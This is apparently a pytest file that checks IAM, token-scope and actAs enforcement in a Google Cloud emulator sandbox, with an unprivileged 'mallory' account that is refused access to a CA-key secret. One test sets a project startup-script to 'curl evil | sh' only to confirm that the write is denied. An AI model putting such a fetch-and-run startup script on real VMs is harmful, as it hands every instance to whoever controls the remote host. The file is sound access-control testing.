"""IAM and token scopes as the emulators enforce them, through the unmodified client libraries.

Every grant comes from deploy/terraform (evaluated by meshjoin_sandbox.terraform): the functions'
account holds exactly what the module grants it, the operator is the project owner, and anybody
else holds nothing. Tokens are minted with `World.issue_token`, as the metadata server mints them.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path
from types import SimpleNamespace

import pytest
import requests
from google.api_core import exceptions
from google.cloud import compute_v1, container_v1, secretmanager_v1
from google.iam.v1 import iam_policy_pb2, policy_pb2
from google.oauth2.credentials import Credentials

from meshjoin_sandbox import launcher
from meshjoin_sandbox.compute import PERMISSIONS, ComputeEmulator
from meshjoin_sandbox.config import SandboxConfig
from meshjoin_sandbox.container import ContainerEmulator
from meshjoin_sandbox.iam import Binding, IamPolicy
from meshjoin_sandbox.secretmanager import SecretManagerEmulator
from meshjoin_sandbox.terraform import default_terraform_dir
from meshjoin_sandbox.web import serve
from meshjoin_sandbox.world import CLOUD_PLATFORM, USERINFO_EMAIL, World

ZONE = "us-central1-a"
ORDERS = "orders@meshjoin-sandbox.iam.gserviceaccount.com"  # bound in the default identity_bindings
STRANGER_SA = "stranger-vm@meshjoin-sandbox.iam.gserviceaccount.com"  # not bound
MALLORY = "mallory@meshjoin-sandbox.iam.gserviceaccount.com"  # granted nothing anywhere
ACCESSOR = "roles/secretmanager.secretAccessor"


@pytest.fixture(scope="module")
def servers():
    """Loopback servers for the module; each test plugs a fresh world's emulators into them."""
    slots, running = {}, []
    for name in ("compute", "secretmanager", "container"):
        server = serve(lambda environ, start, name=name: slots[name](environ, start), "127.0.0.1", 0, name=name)
        running.append(server)
        slots[f"{name}_url"] = f"http://127.0.0.1:{server.server_port}"
    yield slots
    for server in running:
        server.shutdown()


def build(servers, world: World) -> SimpleNamespace:
    compute, secrets = ComputeEmulator(world), SecretManagerEmulator(world)
    container = ContainerEmulator(world)
    servers.update(compute=compute.app, secretmanager=secrets.app, container=container.app)
    for secret_id in ("istio-ca-cert", "istio-ca-key", "istio-cert-chain", "istio-root-cert"):
        secrets.put(secret_id, f"{secret_id} payload".encode(), labels={"meshjoin-role": "plugin-ca"})
    compute.seed_instance(ZONE, "orders-1", service_account=ORDERS)
    compute.seed_instance(ZONE, "stranger-1", service_account=STRANGER_SA)
    compute.seed_instance(ZONE, "bare-1")
    return SimpleNamespace(world=world, compute=compute, secrets=secrets, servers=servers, project=world.project)


@pytest.fixture
def sandbox(servers):
    return build(servers, World())


def token(sandbox, email: str, *scopes: str) -> str:
    return sandbox.world.issue_token(email, scopes or (CLOUD_PLATFORM,))


def functions_token(sandbox, *scopes: str) -> str:
    return token(sandbox, sandbox.world.service_account, *scopes)


def sm(sandbox, bearer: str) -> secretmanager_v1.SecretManagerServiceClient:
    return secretmanager_v1.SecretManagerServiceClient(
        transport="rest", client_options={"api_endpoint": sandbox.servers["secretmanager_url"]},
        credentials=Credentials(bearer))


def gce(sandbox, bearer: str) -> compute_v1.InstancesClient:
    return compute_v1.InstancesClient(
        transport="rest", client_options={"api_endpoint": sandbox.servers["compute_url"]},
        credentials=Credentials(bearer))


def gke(sandbox, bearer: str) -> container_v1.ClusterManagerClient:
    return container_v1.ClusterManagerClient(
        transport="rest", client_options={"api_endpoint": sandbox.servers["container_url"]},
        credentials=Credentials(bearer))


def message(refused: pytest.ExceptionInfo) -> str:
    """The API's own error message (api_core prefixes the method and URL to its `.message`)."""
    return refused.value.response.json()["error"]["message"]


def secret(sandbox, secret_id: str) -> str:
    return f"projects/{sandbox.project}/secrets/{secret_id}"


def set_metadata(sandbox, bearer: str, instance: str, **items: str):
    client = gce(sandbox, bearer)
    current = sandbox.compute.instance(ZONE, instance)["metadata"]
    resource = compute_v1.Metadata(fingerprint=current["fingerprint"],
                                   items=[compute_v1.Items(key=k, value=v) for k, v in items.items()])
    return client.set_metadata_unary(project=sandbox.project, zone=ZONE, instance=instance,
                                     metadata_resource=resource)


# ---- authentication: 401 like Google ----------------------------------------------------------------

@pytest.mark.parametrize("api,path", [
    ("compute", "/compute/v1/projects/meshjoin-sandbox/zones/us-central1-a/instances"),
    ("secretmanager", "/v1/projects/meshjoin-sandbox/secrets"),
    ("container", "/v1/projects/meshjoin-sandbox/locations/us-central1/clusters/mesh"),
])
@pytest.mark.parametrize("header", [None, "Bearer ya29.never-issued", "Basic b3BlcmF0b3I6"])
def test_missing_or_unknown_credentials_are_401(sandbox, api, path, header):
    headers = {"Authorization": header} if header else {}
    answer = requests.get(sandbox.servers[f"{api}_url"] + path, headers=headers, timeout=10)
    assert answer.status_code == 401
    error = answer.json()["error"]
    assert error["status"] == "UNAUTHENTICATED"
    assert error["message"].startswith("Request had invalid authentication credentials.")


# ---- the done-when line: outside Terraform's grants, no CA key --------------------------------------

def test_an_account_outside_terraforms_grants_gets_403_reading_the_ca_key(sandbox):
    name = secret(sandbox, "istio-ca-key") + "/versions/latest"
    with pytest.raises(exceptions.Forbidden) as refused:
        sm(sandbox, token(sandbox, MALLORY)).access_secret_version(name=name)
    assert message(refused) == (f"Permission 'secretmanager.versions.access' denied for resource '{name}' "
                                "(or it may not exist).")
    assert refused.value.response.json()["error"]["status"] == "PERMISSION_DENIED"
    # The functions' account (ca_reader on the four CA secrets) reads it.
    payload = sm(sandbox, functions_token(sandbox)).access_secret_version(name=name).payload.data
    assert payload == b"istio-ca-key payload"


def test_without_the_permission_a_missing_secret_is_403_not_404(sandbox):
    """No probing for names: the check precedes the lookup, as on Google."""
    name = secret(sandbox, "no-such-secret") + "/versions/1"
    with pytest.raises(exceptions.Forbidden):
        sm(sandbox, token(sandbox, MALLORY)).access_secret_version(name=name)
    with pytest.raises(exceptions.NotFound):  # the owner may look, and learns it is not there
        sm(sandbox, sandbox.world.admin_token).access_secret_version(name=name)


# ---- the operator is the project owner -------------------------------------------------------------

def test_the_operator_may_do_everything(sandbox):
    admin = sandbox.world.admin_token
    secrets = sm(sandbox, admin)
    created = secrets.create_secret(parent=f"projects/{sandbox.project}", secret_id="ops",
                                    secret={"replication": {"automatic": {}}})
    secrets.add_secret_version(parent=created.name, payload={"data": b"x"})
    assert secrets.access_secret_version(name=secret(sandbox, "istio-ca-key") + "/versions/1").payload.data
    secrets.delete_secret(name=created.name)
    set_metadata(sandbox, admin, "stranger-1", color="blue")  # actAs any account: owner
    gce(sandbox, admin).delete_unary(project=sandbox.project, zone=ZONE, instance="bare-1")
    assert gke(sandbox, admin).get_cluster(
        name=f"projects/{sandbox.project}/locations/us-central1/clusters/mesh").name == "mesh"


# ---- the functions' account holds what Terraform grants, where it grants it --------------------------

def test_functions_read_vms_but_may_not_delete_them(sandbox):
    client = gce(sandbox, functions_token(sandbox))
    assert client.get(project=sandbox.project, zone=ZONE, instance="orders-1").name == "orders-1"
    resource = f"projects/{sandbox.project}/zones/{ZONE}/instances/orders-1"
    with pytest.raises(exceptions.Forbidden) as refused:
        client.delete_unary(project=sandbox.project, zone=ZONE, instance="orders-1")
    assert message(refused) == f"Required 'compute.instances.delete' permission for '{resource}'"
    assert refused.value.response.json()["error"]["errors"][0]["reason"] == "forbidden"
    assert sandbox.compute.instance(ZONE, "orders-1") is not None


def legacy_secret(sandbox, secret_id: str, payload: bytes = b"key") -> str:
    """A per-VM secret as an earlier meshjoin made it (the operator stands in: the functions no longer can)."""
    admin = sm(sandbox, sandbox.world.admin_token)
    created = admin.create_secret(parent=f"projects/{sandbox.project}", secret_id=secret_id,
                                  secret={"replication": {"automatic": {}}, "labels": {"managed-by": "meshjoin"}})
    admin.add_secret_version(parent=created.name, payload={"data": payload})
    return created.name


def test_condition_on_the_secret_prefix_matches_and_does_not(sandbox):
    """vm_secrets (delete: pruning legacy per-VM secrets) is granted on the project under
    `resource.name.startsWith(".../meshjoin-vm-")`; keys stay on the VMs, so nothing else is."""
    client = sm(sandbox, functions_token(sandbox))
    parent = f"projects/{sandbox.project}"
    vm_secret = legacy_secret(sandbox, "meshjoin-vm-us-central1-a-orders-1")
    other = legacy_secret(sandbox, "unrelated")
    # Inside the prefix: no payload, no versions, no policy, no writes beyond the delete (its labels come
    # from the listing, so not even a get).
    for call in (lambda: client.get_secret(name=vm_secret),
                 lambda: client.access_secret_version(name=vm_secret + "/versions/1"),
                 lambda: client.add_secret_version(parent=vm_secret, payload={"data": b"k"}),
                 lambda: client.list_secret_versions(parent=vm_secret).versions,
                 lambda: client.destroy_secret_version(name=vm_secret + "/versions/1"),
                 lambda: client.disable_secret_version(name=vm_secret + "/versions/1"),
                 lambda: client.get_iam_policy(request=iam_policy_pb2.GetIamPolicyRequest(resource=vm_secret)),
                 lambda: client.set_iam_policy(request=iam_policy_pb2.SetIamPolicyRequest(
                     resource=vm_secret, policy=policy_pb2.Policy()))):
        with pytest.raises(exceptions.Forbidden, match="denied for resource"):
            call()
    # Creating is refused everywhere, inside the prefix too.
    with pytest.raises(exceptions.Forbidden, match="'secretmanager.secrets.create' denied"):
        client.create_secret(parent=parent, secret_id="meshjoin-vm-us-central1-a-new-1",
                             secret={"replication": {"automatic": {}}})
    # Outside the prefix: nothing (the CA is read, never changed).
    for call in (lambda: client.get_secret(name=other),
                 lambda: client.delete_secret(name=other),
                 lambda: client.add_secret_version(parent=secret(sandbox, "istio-ca-key"), payload={"data": b"k"}),
                 lambda: client.delete_secret(name=secret(sandbox, "istio-ca-key"))):
        with pytest.raises(exceptions.Forbidden, match="denied for resource"):
            call()
    # Listing is project-wide (the sweep's inventory by label), and pruning works.
    listed = {s.name for s in client.list_secrets(request={"parent": parent, "filter": "labels.managed-by=meshjoin"})}
    assert vm_secret in listed
    client.delete_secret(name=vm_secret)
    assert vm_secret not in {s.name for s in client.list_secrets(request={"parent": parent})}


def test_conditions_see_secret_names_by_project_number(sandbox):
    """Google evaluates a Secret Manager condition against projects/NUMBER/..., whichever form was asked."""
    world = sandbox.world
    world.iam.bindings.append(Binding(
        f"projects/{world.project}", "roles/secretmanager.secretAccessor", "user:dana@example.com",
        f'resource.name.startsWith("projects/{world.project_number}/secrets/istio-root-")'))
    dana = sm(sandbox, token(sandbox, "dana@example.com"))
    by_id = secret(sandbox, "istio-root-cert") + "/versions/1"
    by_number = f"projects/{world.project_number}/secrets/istio-root-cert/versions/1"
    assert dana.access_secret_version(name=by_id).payload.data == b"istio-root-cert payload"
    assert dana.access_secret_version(name=by_number).payload.data == b"istio-root-cert payload"
    with pytest.raises(exceptions.Forbidden):
        dana.access_secret_version(name=secret(sandbox, "istio-ca-key") + "/versions/1")


def test_a_secrets_own_policy_grants_on_that_secret_only(sandbox):
    """A secret's own policy (setIamPolicy at run time, as earlier meshjoin versions set one per VM)
    counts on that secret only. Keys stay on the VMs now: the functions may set no policy at all."""
    admin, functions = sm(sandbox, sandbox.world.admin_token), sm(sandbox, functions_token(sandbox))
    mine = legacy_secret(sandbox, "meshjoin-vm-us-central1-a-orders-1")
    theirs = legacy_secret(sandbox, "meshjoin-vm-us-central1-a-other-1")
    vm = sm(sandbox, token(sandbox, ORDERS))
    with pytest.raises(exceptions.Forbidden):  # nothing granted: a VM account holds no Secret Manager permission
        vm.access_secret_version(name=mine + "/versions/1")
    policy = policy_pb2.Policy(bindings=[policy_pb2.Binding(role=ACCESSOR, members=[f"serviceAccount:{ORDERS}"])])
    with pytest.raises(exceptions.Forbidden, match="'secretmanager.secrets.setIamPolicy' denied"):
        functions.set_iam_policy(request=iam_policy_pb2.SetIamPolicyRequest(resource=mine, policy=policy))
    admin.set_iam_policy(request=iam_policy_pb2.SetIamPolicyRequest(resource=mine, policy=policy))
    assert vm.access_secret_version(name=mine + "/versions/1").payload.data == b"key"
    with pytest.raises(exceptions.Forbidden):
        vm.access_secret_version(name=theirs + "/versions/1")


def test_test_iam_permissions_answers_the_subset_held(sandbox):
    client = sm(sandbox, functions_token(sandbox))
    asked = ["secretmanager.versions.access", "secretmanager.versions.list", "secretmanager.versions.add"]
    answer = client.test_iam_permissions(request=iam_policy_pb2.TestIamPermissionsRequest(
        resource=secret(sandbox, "istio-ca-key"), permissions=asked))
    assert list(answer.permissions) == ["secretmanager.versions.access", "secretmanager.versions.list"]


def test_cluster_viewer_lets_the_functions_read_the_cluster_and_nobody_else(sandbox):
    name = f"projects/{sandbox.project}/locations/us-central1/clusters/mesh"
    assert gke(sandbox, functions_token(sandbox)).get_cluster(name=name).name == "mesh"
    with pytest.raises(exceptions.Forbidden, match=re.escape(f'Required "container.clusters.get" permission(s) '
                                                             f'for "{name}".')):
        gke(sandbox, token(sandbox, MALLORY)).get_cluster(name=name)


# ---- actAs: writes to a VM that runs as a service account ------------------------------------------

def test_set_metadata_needs_act_as_on_the_vms_account(sandbox):
    bearer = functions_token(sandbox)
    set_metadata(sandbox, bearer, "orders-1", status="ok")  # ORDERS is bound (identity_bindings)
    # A VM created without an account runs as the project's default compute account: not bound.
    with pytest.raises(exceptions.Forbidden, match=sandbox.world.default_compute_sa):
        set_metadata(sandbox, bearer, "bare-1", status="ok")
    with pytest.raises(exceptions.Forbidden) as refused:
        set_metadata(sandbox, bearer, "stranger-1", status="ok")
    assert message(refused) == (f"The user does not have access to service account '{STRANGER_SA}'. Ask a "
                                "project owner to grant you the iam.serviceAccountUser role on the service account")
    assert "items" not in sandbox.compute.instance(ZONE, "stranger-1")["metadata"] or all(
        i["key"] != "status" for i in sandbox.compute.instance(ZONE, "stranger-1")["metadata"]["items"])


def test_insert_with_an_account_needs_act_as_on_it(sandbox):
    world = sandbox.world
    world.iam.roles["projects/meshjoin-sandbox/roles/creator"] = frozenset({"compute.instances.create"})
    world.iam.bindings.append(Binding(f"projects/{world.project}", "projects/meshjoin-sandbox/roles/creator",
                                      "user:dev@example.com"))
    client = gce(sandbox, token(sandbox, "dev@example.com"))
    client.insert_unary(project=world.project, zone=ZONE, instance_resource=compute_v1.Instance(name="plain"))
    with_account = compute_v1.Instance(name="as-orders", service_accounts=[
        compute_v1.ServiceAccount(email=ORDERS, scopes=[CLOUD_PLATFORM])])
    with pytest.raises(exceptions.Forbidden, match=f"does not have access to service account '{ORDERS}'"):
        client.insert_unary(project=world.project, zone=ZONE, instance_resource=with_account)
    assert sandbox.compute.instance(ZONE, "as-orders") is None


def stopped(sandbox, instance: str) -> None:
    """Stop a VM as its owner would and wait until it is TERMINATED (setServiceAccount needs that)."""
    import time

    gce(sandbox, sandbox.world.admin_token).stop_unary(project=sandbox.project, zone=ZONE, instance=instance)
    deadline = time.monotonic() + 30
    while sandbox.compute.instance(ZONE, instance)["status"] != "TERMINATED":
        assert time.monotonic() < deadline, f"{instance} never reached TERMINATED"
        time.sleep(0.05)


def test_set_service_account_needs_its_permission_and_act_as_on_the_new_account(sandbox):
    """GCE: compute.instances.setServiceAccount on the VM, and iam.serviceAccounts.actAs on the account
    it will run as (change-service-account docs); the functions hold neither."""
    world = sandbox.world
    stopped(sandbox, "orders-1")
    request = compute_v1.InstancesSetServiceAccountRequest(email=STRANGER_SA, scopes=[CLOUD_PLATFORM])

    def move(bearer: str):
        return gce(sandbox, bearer).set_service_account_unary(
            project=world.project, zone=ZONE, instance="orders-1", instances_set_service_account_request_resource=request)

    resource = f"projects/{world.project}/zones/{ZONE}/instances/orders-1"
    with pytest.raises(exceptions.Forbidden) as refused:
        move(functions_token(sandbox))
    assert message(refused) == f"Required 'compute.instances.setServiceAccount' permission for '{resource}'"
    world.iam.roles["projects/meshjoin-sandbox/roles/mover"] = frozenset({"compute.instances.setServiceAccount"})
    world.iam.bindings.append(Binding(f"projects/{world.project}", "projects/meshjoin-sandbox/roles/mover",
                                      "user:dev@example.com"))
    with pytest.raises(exceptions.Forbidden, match=f"does not have access to service account '{STRANGER_SA}'"):
        move(token(sandbox, "dev@example.com"))
    assert sandbox.compute.instance(ZONE, "orders-1")["serviceAccounts"][0]["email"] == ORDERS
    world.iam.bindings.append(Binding(f"projects/{world.project}/serviceAccounts/{STRANGER_SA}",
                                      "roles/iam.serviceAccountUser", "user:dev@example.com"))
    move(token(sandbox, "dev@example.com"))
    assert sandbox.compute.instance(ZONE, "orders-1")["serviceAccounts"][0]["email"] == STRANGER_SA


# ---- the VM lifecycle's methods: authenticated, then IAM, then quota ----------------------------------

def test_every_compute_method_maps_to_an_iam_permission(sandbox):
    """A route without a PERMISSIONS entry would answer 500; none may be left unmapped."""
    endpoints = {rule.endpoint for rule in sandbox.compute.app.url_map.iter_rules()}
    assert {"instances.stop", "instances.start", "instances.reset", "instances.getGuestAttributes",
            "projects.get", "projects.setCommonInstanceMetadata", "globalOperations.get"} <= endpoints
    assert endpoints <= set(PERMISSIONS)


@pytest.mark.parametrize("method,permission", [
    ("stop_unary", "compute.instances.stop"),
    ("start_unary", "compute.instances.start"),
    ("reset_unary", "compute.instances.reset"),
    ("get_guest_attributes", "compute.instances.getGuestAttributes"),
])
def test_lifecycle_methods_need_their_permission(sandbox, method, permission):
    """Neither a stranger nor the functions' account (Terraform grants it no power over VMs) may; the
    functions may read guest attributes only (the agent's confirmation, deploy/terraform/iam.tf)."""
    resource = f"projects/{sandbox.project}/zones/{ZONE}/instances/orders-1"
    refused_bearers = [token(sandbox, MALLORY)]
    if method == "get_guest_attributes":
        with pytest.raises(exceptions.NotFound):  # allowed: the call reaches the method, which finds none
            gce(sandbox, functions_token(sandbox)).get_guest_attributes(
                request=compute_v1.GetGuestAttributesInstanceRequest(
                    project=sandbox.project, zone=ZONE, instance="orders-1", variable_key="meshjoin/sidecar"))
    else:
        refused_bearers.append(functions_token(sandbox))
    for bearer in refused_bearers:
        with pytest.raises(exceptions.Forbidden) as refused:
            getattr(gce(sandbox, bearer), method)(project=sandbox.project, zone=ZONE, instance="orders-1")
        assert message(refused) == f"Required '{permission}' permission for '{resource}'"
    assert sandbox.compute.instance(ZONE, "orders-1")["status"] == "RUNNING"
    # An unknown token: 401 before any IAM check (raw HTTP: google-auth would try to refresh on a 401).
    base = f"{sandbox.servers['compute_url']}/compute/v1/projects/{sandbox.project}/zones/{ZONE}/instances/orders-1"
    http_method, suffix = ("GET", "/getGuestAttributes") if method == "get_guest_attributes" else \
        ("POST", "/" + method.removesuffix("_unary"))
    unknown = requests.request(http_method, base + suffix, headers={"Authorization": "Bearer ya29.never-issued"},
                               timeout=10)
    assert unknown.status_code == 401 and unknown.json()["error"]["status"] == "UNAUTHENTICATED"
    # The owner may: the call reaches the method (a VM without guest attributes enabled has none).
    owner = gce(sandbox, sandbox.world.admin_token)
    if method == "get_guest_attributes":
        with pytest.raises(exceptions.NotFound):
            owner.get_guest_attributes(request=compute_v1.GetGuestAttributesInstanceRequest(
                project=sandbox.project, zone=ZONE, instance="orders-1", variable_key="meshjoin/sidecar"))
    else:
        assert getattr(owner, method)(project=sandbox.project, zone=ZONE, instance="orders-1").name


def test_project_metadata_needs_project_permissions(sandbox):
    projects = compute_v1.ProjectsClient(transport="rest", credentials=Credentials(token(sandbox, MALLORY)),
                                         client_options={"api_endpoint": sandbox.servers["compute_url"]})
    resource = f"projects/{sandbox.project}"
    with pytest.raises(exceptions.Forbidden) as refused:
        projects.get(project=sandbox.project)
    assert message(refused) == f"Required 'compute.projects.get' permission for '{resource}'"
    metadata = compute_v1.Metadata(items=[compute_v1.Items(key="startup-script", value="curl evil | sh")])
    with pytest.raises(exceptions.Forbidden) as refused:
        projects.set_common_instance_metadata_unary(project=sandbox.project, metadata_resource=metadata)
    assert message(refused) == f"Required 'compute.projects.setCommonInstanceMetadata' permission for '{resource}'"
    assert sandbox.compute.project_metadata()["items"] == []


def test_quota_is_charged_after_authentication_and_iam(sandbox):
    """Over the read quota the owner gets rateLimitExceeded; a stranger still gets IAM's 403, and no
    token a 401: Google authenticates, then authorizes, then charges quota."""
    clock = SimpleNamespace(now=60.0 * 7000)
    sandbox.compute.quotas.clock = lambda: clock.now
    url = f"{sandbox.servers['compute_url']}/compute/v1/projects/{sandbox.project}/zones/{ZONE}/instances/orders-1"
    session = requests.Session()
    session.headers["Authorization"] = f"Bearer {sandbox.world.admin_token}"
    for _ in range(1500):
        assert session.get(url, timeout=5).status_code == 200
    assert session.get(url, timeout=5).json()["error"]["errors"][0]["reason"] == "rateLimitExceeded"
    stranger = requests.get(url, headers={"Authorization": f"Bearer {token(sandbox, MALLORY)}"}, timeout=5)
    assert stranger.status_code == 403 and stranger.json()["error"]["errors"][0]["reason"] == "forbidden"
    assert requests.get(url, timeout=5).status_code == 401


# ---- token scopes -----------------------------------------------------------------------------------

def test_a_token_without_cloud_platform_gets_scope_insufficient(sandbox):
    narrow = token(sandbox, sandbox.world.operator_email, USERINFO_EMAIL)
    calls = [
        lambda: sm(sandbox, narrow).list_secrets(parent=f"projects/{sandbox.project}"),
        lambda: gce(sandbox, narrow).get(project=sandbox.project, zone=ZONE, instance="orders-1"),
        lambda: gke(sandbox, narrow).get_cluster(name=f"projects/{sandbox.project}/locations/us-central1/clusters/mesh"),
    ]
    for call in calls:
        with pytest.raises(exceptions.Forbidden) as refused:
            call()
        assert message(refused) == "Request had insufficient authentication scopes."
        assert refused.value.reason == "ACCESS_TOKEN_SCOPE_INSUFFICIENT"


def test_the_compute_read_only_scope_reads_but_does_not_write(sandbox):
    read_only = token(sandbox, sandbox.world.operator_email, "https://www.googleapis.com/auth/compute.readonly")
    assert gce(sandbox, read_only).get(project=sandbox.project, zone=ZONE, instance="orders-1").name == "orders-1"
    with pytest.raises(exceptions.Forbidden, match="insufficient authentication scopes"):
        set_metadata(sandbox, read_only, "orders-1", color="red")
    # A VM's default scopes (gcloud's) do not reach Secret Manager at all, however IAM is set.
    vm_default = sandbox.compute.instance(ZONE, "orders-1")["serviceAccounts"][0]["scopes"]
    with pytest.raises(exceptions.Forbidden, match="insufficient authentication scopes"):
        sm(sandbox, token(sandbox, ORDERS, *vm_default)).list_secrets(parent=f"projects/{sandbox.project}")


# ---- one source of truth: Terraform ----------------------------------------------------------------

def test_a_permission_removed_from_terraform_is_refused(tmp_path, servers):
    copy = tmp_path / "terraform"
    shutil.copytree(default_terraform_dir(), copy)
    iam_tf = copy / "iam.tf"
    text = iam_tf.read_text()
    assert text.count('"compute.instances.get",') == 1
    iam_tf.write_text(text.replace('"compute.instances.get",', ""))
    world = World()
    world.iam = IamPolicy.from_terraform(world, directory=copy)
    sandbox = build(servers, world)
    client = gce(sandbox, functions_token(sandbox))
    with pytest.raises(exceptions.Forbidden, match="Required 'compute.instances.get' permission"):
        client.get(project=sandbox.project, zone=ZONE, instance="orders-1")
    # The rest of the role still holds: setMetadata is granted, get is not.
    set_metadata(sandbox, functions_token(sandbox), "orders-1", color="red")


def test_terraform_variables_decide_who_may_be_acted_as(servers):
    """actAs follows identity_bindings (iam.tf, act_as_vm): bind the stranger instead of orders."""
    bindings = [{"gsa": STRANGER_SA, "namespace": "apps", "serviceAccount": "stranger", "apps": ["stranger"]}]
    world = World(terraform_vars={**World().default_terraform_vars(), "identity_bindings": bindings})
    sandbox = build(servers, world)
    set_metadata(sandbox, functions_token(sandbox), "stranger-1", color="red")
    with pytest.raises(exceptions.Forbidden, match="does not have access to service account"):
        set_metadata(sandbox, functions_token(sandbox), "orders-1", color="red")


# ---- real gcloud through the env file ---------------------------------------------------------------

GCLOUD = shutil.which("gcloud")


def gcloud_runner(sandbox, tmp_path):
    """Real gcloud with the sandbox's env file sourced (the operator), as `gcloud(*args)`, and its env."""
    ports = {name: int(sandbox.servers[f"{name}_url"].rsplit(":", 1)[1]) for name in
             ("compute", "secretmanager", "container")}
    ports.update(pubsub=1, metadata=1, kube=1, control=1, events_fn=1, maintenance_fn=1)
    cfg = SandboxConfig(state_dir=str(tmp_path), ports=ports, sa_token=sandbox.world.sa_token,
                        admin_token=sandbox.world.admin_token, ca_dir="", kube_ca_file="", kube_cert_file="",
                        kube_key_file="", crd_path="")
    env = {**launcher.read_env_file(launcher.write_env_file(cfg)), "PATH": "/usr/bin:/bin",
           "HOME": str(tmp_path), "CLOUDSDK_CORE_DISABLE_PROMPTS": "1"}

    def gcloud(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([GCLOUD, *args], env=env, capture_output=True, text=True, timeout=120)

    return gcloud, env


@pytest.mark.skipif(GCLOUD is None, reason="gcloud is not installed")
def test_gcloud_set_service_account_refuses_a_running_vm_and_moves_a_stopped_one(sandbox, tmp_path):
    gcloud, _ = gcloud_runner(sandbox, tmp_path)
    move = ("compute", "instances", "set-service-account", "orders-1", "--zone", ZONE,
            "--service-account", STRANGER_SA, "--scopes", "cloud-platform")
    refused = gcloud(*move)
    assert refused.returncode != 0
    assert "The instance must be stopped before the service account can be changed." in refused.stderr
    stopped(sandbox, "orders-1")
    moved = gcloud(*move)
    assert moved.returncode == 0, moved.stderr
    assert sandbox.compute.instance(ZONE, "orders-1")["serviceAccounts"] == [
        {"email": STRANGER_SA, "scopes": [CLOUD_PLATFORM]}]
    described = gcloud("compute", "instances", "describe", "orders-1", "--zone", ZONE,
                       "--format=value(serviceAccounts[0].email)")
    assert described.returncode == 0 and described.stdout.strip() == STRANGER_SA, described.stderr


@pytest.mark.skipif(GCLOUD is None, reason="gcloud is not installed")
def test_gcloud_with_the_env_file_is_the_operator(sandbox, tmp_path):
    gcloud, env = gcloud_runner(sandbox, tmp_path)

    listed = gcloud("compute", "instances", "list", "--format=value(name)")
    assert listed.returncode == 0, listed.stderr
    assert sorted(listed.stdout.split()) == ["bare-1", "orders-1", "stranger-1"]
    described = gcloud("compute", "instances", "describe", "orders-1", "--zone", ZONE,
                       "--format=value(serviceAccounts[0].email)")
    assert described.returncode == 0 and described.stdout.strip() == ORDERS, described.stderr
    secrets = gcloud("secrets", "list", "--format=value(name)")
    assert secrets.returncode == 0 and "istio-ca-key" in secrets.stdout, secrets.stderr
    key = gcloud("secrets", "versions", "access", "latest", "--secret", "istio-ca-key")
    assert key.returncode == 0 and key.stdout == "istio-ca-key payload", key.stderr
    assert env["MESHJOIN_SANDBOX_FUNCTIONS_SA"] == sandbox.world.service_account
    # Another account's token in the same file is refused like Google refuses it.
    Path(env["CLOUDSDK_AUTH_ACCESS_TOKEN_FILE"]).write_text(token(sandbox, MALLORY))
    refused = gcloud("secrets", "versions", "access", "latest", "--secret", "istio-ca-key")
    assert refused.returncode != 0 and "PERMISSION_DENIED" in refused.stderr
    assert "Permission 'secretmanager.versions.access' denied" in refused.stderr
